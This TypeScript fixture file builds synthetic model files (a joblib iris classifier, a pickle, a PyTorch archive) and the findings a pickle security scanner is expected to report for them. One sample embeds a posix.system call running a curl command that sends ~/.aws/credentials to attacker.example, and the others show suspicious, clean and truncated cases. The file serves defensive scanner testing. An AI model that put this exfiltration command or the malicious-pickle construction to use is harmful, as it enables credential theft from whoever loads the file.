import type { EntryPath } from '../../shared/domain/artifact';
import type { CoverageGap, Region } from '../../shared/domain/coverage';
import type { CallFact, MemberFlag, Reader } from '../../shared/domain/fact';
import type { Finding, Severity } from '../../shared/domain/finding';
import type { GlobalClass, JudgedGlobal, Report } from '../../shared/domain/report';
import type { SymbolicValue } from '../../shared/domain/symbol';
import { judge } from '../../shared/domain/verdict';
import type { FormatId } from '../../shared/formats';
import { OP } from '../../shared/pickle/opcodes';
import { loaderOutcomes } from '../../shared/rules/loaders';
import { readTinyPickle, type TinyLine, TinyPickle } from './tiny-pickle';

/** A synthetic artifact: its bytes, and the report that a scan of them would end with. */
export interface Sample {
  readonly name: string;
  readonly report: Report;
  readonly entries: readonly { readonly path: EntryPath; readonly bytes: Uint8Array }[];
  readonly streams: readonly {
    readonly entryPath: EntryPath;
    readonly start: number;
    readonly lines: readonly TinyLine[];
  }[];
}

export const EVERY_READER: readonly Reader[] = ['c', 'cFile', 'python', 'pickletools'];
const COMMAND = 'curl https://attacker.example?data=$(cat ~/.aws/credentials)';
const text = (value: string): SymbolicValue => ({ kind: 'str', value, length: value.length });
const globalValue = (module: string, name: string): SymbolicValue => ({ kind: 'global', module, name });

function regionsFrom(lines: readonly TinyLine[], shift: number, size: number): Region[] {
  const regions: Region[] = [];
  const add = (start: number, end: number, kind: Region['kind']) => {
    const last = regions.at(-1);
    if (last && last.kind === kind && last.end === start) regions[regions.length - 1] = { ...last, end };
    else if (end > start) regions.push({ start, end, kind });
  };
  for (const line of lines) {
    if (line.code === OP.SHORT_BINUNICODE || line.code === OP.BINUNICODE) {
      add(line.offset + shift, line.offset + 1 + shift, 'opcodes');
      add(line.offset + 1 + shift, line.end + shift, 'text');
    } else if (line.code === OP.BINBYTES || line.code === OP.SHORT_BINBYTES) {
      add(line.offset + shift, line.offset + 5 + shift, 'opcodes');
      add(line.offset + 5 + shift, line.end + shift, 'array');
    } else add(line.offset + shift, line.end + shift, 'opcodes');
  }
  const end = regions.at(-1)?.end ?? shift;
  if (end < size) regions.push({ start: end, end: size, kind: 'unexplained' });
  return regions;
}

interface Seen {
  readonly globals: JudgedGlobal[];
  readonly calls: CallFact[];
}

/** Facts as the engine would state them, read off the tiny machine. */
function factsIn(
  lines: readonly TinyLine[],
  entryPath: EntryPath,
  classes: Readonly<Record<string, GlobalClass>>,
  readers = EVERY_READER,
): Seen {
  const seen: Seen = { globals: [], calls: [] };
  for (const line of lines) {
    const top = line.after[0]?.text ?? '';
    if (line.code === OP.STACK_GLOBAL) {
      const dot = top.lastIndexOf('.');
      const [module, name] = [top.slice(0, dot), top.slice(dot + 1)];
      seen.globals.push({
        kind: 'global',
        module,
        name,
        writtenModule: module === 'os' ? 'posix' : module,
        writtenName: name,
        opcode: 'STACK_GLOBAL',
        dotted: false,
        imports: 1,
        calls: 1,
        builds: 0,
        uses: [],
        onlyArrayClass: false,
        uncovered: [],
        readers,
        class: classes[top] ?? 'trusted',
        entryPath,
        range: { start: line.offset, end: line.end },
      });
    }
    if (line.code === OP.REDUCE || line.code === OP.NEWOBJ) {
      const callee = line.before[1]?.text ?? '';
      const dot = callee.lastIndexOf('.');
      const argument = (line.before[0]?.text ?? '').replace(/^\('|',\)$/g, '');
      seen.calls.push({
        kind: 'call',
        via: line.code === OP.REDUCE ? 'REDUCE' : 'NEWOBJ',
        callee: globalValue(callee.slice(0, dot), callee.slice(dot + 1)),
        arguments: {
          kind: 'tuple',
          items: argument === '' || argument === 'tuple' ? [] : [text(argument)],
          truncated: false,
        },
        readers,
        entryPath,
        range: { start: line.offset, end: line.end },
      });
    }
  }
  return seen;
}

function finding(
  ruleId: string,
  severity: Severity,
  message: string,
  line: TinyLine,
  entryPath: EntryPath,
  evidence: Finding['evidence'] = [],
): Finding {
  return {
    ruleId,
    severity,
    message,
    entryPath,
    byteOffset: line.offset,
    byteLength: line.end - line.offset,
    evidence,
  };
}

export function reportOf(
  part: Partial<Report> & Pick<Report, 'sizeBytes' | 'formatPath'>,
  gaps: readonly CoverageGap[] = [],
): Report {
  const coverage = {
    explainedBytes: part.sizeBytes - gaps.reduce((sum, gap) => sum + gap.end - gap.start, 0),
    totalBytes: part.sizeBytes,
    gaps,
  };
  const { calls = [], streams = [], references = [], globals = [], findings = [] } = part;
  // The arrays of the samples stand in literals, where they end no reader.
  const facts = [...calls, ...streams, ...references];
  const weightsOnly = part.weightsOnly ?? null;
  const format = (part.format ?? 'pickle') as FormatId;
  return {
    format,
    sha256: '9c298d589a2158eb513cb52191144518a2acab2cb0c04f1df14fca0f712fa4a1',
    coverage,
    findings: [],
    accepted: 0,
    policy: { profile: 'everything-known', sha256: null },
    globals: [],
    calls: [],
    streams: [],
    arrays: [],
    entries: [],
    metadata: [],
    namedObjects: [],
    operations: [],
    references: [],
    code: [],
    indicators: [],
    weightsOnly: null,
    locked: false,
    regions: [],
    opcodes: 0,
    omitted: {},
    durationMs: 12,
    error: null,
    ...part,
    loaders: loaderOutcomes({ facts, globals, findings, format, weightsOnly, locked: part.locked ?? false }),
    verdict: part.verdict ?? judge(part.findings ?? [], coverage),
  };
}

/** An iris classifier into which somebody put a call of a shell. */
export function dangerousSample(name = 'iris_classifier.joblib'): Sample {
  const pickle = new TinyPickle()
    .op(OP.PROTO, 4)
    .global('sklearn.ensemble._forest', 'RandomForestClassifier')
    .op(OP.EMPTY_TUPLE)
    .op(OP.NEWOBJ)
    .op(OP.MEMOIZE)
    .op(OP.EMPTY_DICT)
    .op(OP.MEMOIZE)
    .op(OP.MARK);
  for (const [key, value] of Object.entries({
    n_estimators: 100,
    max_depth: 4,
    n_jobs: 1,
    random_state: 42,
    verbose: 0,
  }))
    pickle.text(key).op(OP.BININT1, value);
  pickle
    .text('weights')
    .op(OP.BINBYTES, 0x60, 9, 0, 0, ...Array.from({ length: 0x960 }, (_, index) => (index * 37) & 255));
  pickle
    .text('callback')
    .global('posix', 'system')
    .text(COMMAND)
    .op(OP.TUPLE1)
    .op(OP.MEMOIZE)
    .op(OP.REDUCE)
    .op(OP.MEMOIZE);
  pickle
    .text('feature_names')
    .op(OP.MARK)
    .text('sepal_length')
    .text('sepal_width')
    .text('petal_length')
    .text('petal_width')
    .op(OP.LIST);
  pickle
    .text('classes_')
    .op(OP.BINBYTES, 0xe0, 1, 0, 0, ...Array.from({ length: 0x1e0 }, (_, index) => (index * 11) & 255));
  const bytes = pickle.op(OP.SETITEMS).op(OP.BUILD).op(OP.STOP).done();
  const lines = readTinyPickle(bytes);
  const facts = factsIn(lines, [], { 'posix.system': 'dangerous' });
  const at = (code: number, top: string) =>
    lines.find((line) => line.code === code && line.after[0]?.text.startsWith(top)) as TinyLine;
  const call = at(OP.REDUCE, 'posix.system');
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [{ entryPath: [], start: 0, lines }],
    report: reportOf({
      sizeBytes: bytes.length,
      formatPath: ['joblib', 'pickle 4'],
      findings: [
        finding(
          'dangerous-call',
          'critical',
          `Loading this file runs a shell command: ${COMMAND}`,
          call,
          [],
          [
            {
              kind: 'call',
              callee: globalValue('posix', 'system'),
              arguments: { kind: 'tuple', items: [text(COMMAND)], truncated: false },
            },
          ],
        ),
        finding(
          'dangerous-import',
          'high',
          'Imports posix.system, which runs shell commands.',
          at(OP.STACK_GLOBAL, 'posix.system'),
          [],
          [{ kind: 'global', module: 'posix', name: 'system' }],
        ),
      ],
      globals: facts.globals,
      calls: facts.calls,
      streams: [
        {
          kind: 'stream',
          index: 0,
          opcodes: lines.length,
          highestProto: 4,
          complete: true,
          entryPath: [],
          range: { start: 0, end: bytes.length },
        },
      ],
      arrays: lines
        .filter((line) => line.code === OP.BINBYTES)
        .map((line) => ({
          kind: 'array',
          name: null,
          dtype: 'float64',
          shape: [(line.end - line.offset - 5) / 8],
          order: 'C',
          entryPath: [],
          range: { start: line.offset + 5, end: line.end },
        })),
      metadata: [
        { kind: 'metadata', key: 'Framework', value: 'scikit-learn 1.5.2', entryPath: [], range: { start: 0, end: 1 } },
        { kind: 'metadata', key: 'Class', value: 'RandomForestClassifier', entryPath: [], range: { start: 2, end: 3 } },
      ],
      regions: regionsFrom(lines, 0, bytes.length),
      opcodes: lines.length,
    }),
  };
}

/** Loads a class that no table knows, and only one of the readers gets there. */
export function suspiciousSample(name = 'pricing_pipeline.pkl'): Sample {
  const bytes = new TinyPickle()
    .op(OP.PROTO, 4)
    .global('pricing.transform', 'Winsorizer')
    .op(OP.EMPTY_TUPLE)
    .op(OP.NEWOBJ)
    .op(OP.MEMOIZE)
    .op(OP.STOP)
    .done();
  const lines = readTinyPickle(bytes);
  const facts = factsIn(lines, [], { 'pricing.transform.Winsorizer': 'unknown' }, ['python', 'pickletools']);
  const at = lines.find((line) => line.code === OP.STACK_GLOBAL) as TinyLine;
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [{ entryPath: [], start: 0, lines }],
    report: reportOf({
      sizeBytes: bytes.length,
      formatPath: ['pickle 4'],
      findings: [
        finding(
          'unknown-global',
          'medium',
          'Imports pricing.transform.Winsorizer, which nobody has vouched for. Reached by the Python unpickler (joblib) only.',
          at,
          [],
          [{ kind: 'global', module: 'pricing.transform', name: 'Winsorizer' }],
        ),
      ],
      globals: facts.globals,
      calls: facts.calls,
      streams: [
        {
          kind: 'stream',
          index: 0,
          opcodes: lines.length,
          highestProto: 4,
          complete: true,
          entryPath: [],
          range: { start: 0, end: bytes.length },
        },
      ],
      regions: regionsFrom(lines, 0, bytes.length),
      opcodes: lines.length,
    }),
  };
}

/** Nothing but data. */
export function quietSample(name = 'scaler.pkl'): Sample {
  const pickle = new TinyPickle().op(OP.PROTO, 4).op(OP.EMPTY_DICT).op(OP.MEMOIZE).op(OP.MARK);
  for (let index = 0; index < 40; index++) pickle.text(`feature_${index}`).op(OP.BININT1, index);
  const bytes = pickle.op(OP.SETITEMS).op(OP.STOP).done();
  const lines = readTinyPickle(bytes);
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [{ entryPath: [], start: 0, lines }],
    report: reportOf({
      sizeBytes: bytes.length,
      formatPath: ['pickle 4'],
      streams: [
        {
          kind: 'stream',
          index: 0,
          opcodes: lines.length,
          highestProto: 4,
          complete: true,
          entryPath: [],
          range: { start: 0, end: bytes.length },
        },
      ],
      regions: regionsFrom(lines, 0, bytes.length),
      opcodes: lines.length,
    }),
  };
}

/** Breaks off in the middle. */
export function inconclusiveSample(name = 'notes.bin'): Sample {
  const bytes = new TinyPickle()
    .op(OP.PROTO, 4)
    .text('notes')
    .raw(0xff, ...Array.from({ length: 300 }, (_, index) => (index * 91) & 255))
    .done();
  const lines = readTinyPickle(bytes);
  const end = lines.at(-1)?.end ?? 0;
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [{ entryPath: [], start: 0, lines }],
    report: reportOf(
      {
        sizeBytes: bytes.length,
        formatPath: ['pickle 4'],
        streams: [
          {
            kind: 'stream',
            index: 0,
            opcodes: lines.length,
            highestProto: 4,
            complete: false,
            entryPath: [],
            range: { start: 0, end },
          },
        ],
        regions: regionsFrom(lines, 0, bytes.length),
        opcodes: lines.length,
      },
      [{ entryPath: [], start: end, end: bytes.length, reason: '0xff is no opcode' }],
    ),
  };
}

/** A PyTorch archive with the dangerous pickle as a stored member. */
export function archiveSample(name = 'ranker-v7/pytorch_model.bin'): Sample {
  const inner = dangerousSample();
  const innerBytes = inner.entries[0]?.bytes ?? new Uint8Array();
  const path = ['ranker/data.pkl'];
  const header = 64;
  const storage = 4096;
  const bytes = new Uint8Array(header + innerBytes.length + storage + 96);
  bytes.set([0x50, 0x4b, 3, 4]);
  bytes.set(innerBytes, header);
  for (let index = 0; index < storage; index++) bytes[header + innerBytes.length + index] = (index * 53) & 255;
  const here = <T extends { readonly entryPath: EntryPath }>(facts: readonly T[]): T[] =>
    facts.map((fact) => ({ ...fact, entryPath: path }));
  const end = header + innerBytes.length;
  const entry = (member: string, start: number, size: number, format: string, flags: readonly MemberFlag[] = []) =>
    ({
      kind: 'entry',
      path: [member],
      format,
      method: 'stored',
      storedBytes: size,
      inflatedBytes: size,
      flags,
      entryPath: [],
      range: { start, end: start + size },
    }) as const;
  return {
    name,
    entries: [
      { path: [], bytes },
      { path, bytes: innerBytes },
      { path: ['ranker/data/0'], bytes: bytes.slice(end, end + storage) },
    ],
    streams: [{ entryPath: path, start: 0, lines: inner.streams[0]?.lines ?? [] }],
    report: reportOf({
      ...inner.report,
      format: 'torch',
      sizeBytes: bytes.length,
      formatPath: ['PyTorch', 'pickle 4'],
      coverage: { explainedBytes: bytes.length, totalBytes: bytes.length, gaps: [] },
      findings: here(inner.report.findings),
      globals: here(inner.report.globals),
      calls: here(inner.report.calls),
      streams: here(inner.report.streams),
      arrays: [],
      weightsOnly: {
        accepts: false,
        stoppedBy: inner.report.globals
          .filter((fact) => fact.class === 'dangerous')
          .map((fact) => ({ what: `${fact.module}.${fact.name}`, entryPath: path, byteOffset: fact.range.start })),
      },
      entries: [
        entry('ranker/data.pkl', header, innerBytes.length, 'pickle'),
        entry('ranker/data/0', end, storage, 'array'),
        {
          ...entry('ranker/version', end + storage, 2, 'unknown', ['duplicate']),
          method: 'deflated',
          storedBytes: 4,
          inflatedBytes: 2,
        },
      ],
      regions: [
        { start: 0, end: header, kind: 'container' },
        ...regionsFrom(inner.streams[0]?.lines ?? [], header, end),
        { start: end, end: end + storage, kind: 'array' },
        { start: end + storage, end: bytes.length, kind: 'container' },
      ],
    }),
  };
}

/** What the preview shows. */
export function allSamples(): readonly Sample[] {
  return [
    dangerousSample(),
    archiveSample(),
    suspiciousSample(),
    inconclusiveSample(),
    quietSample(),
    quietSample('bert-base/tokenizer.pkl'),
  ];
}
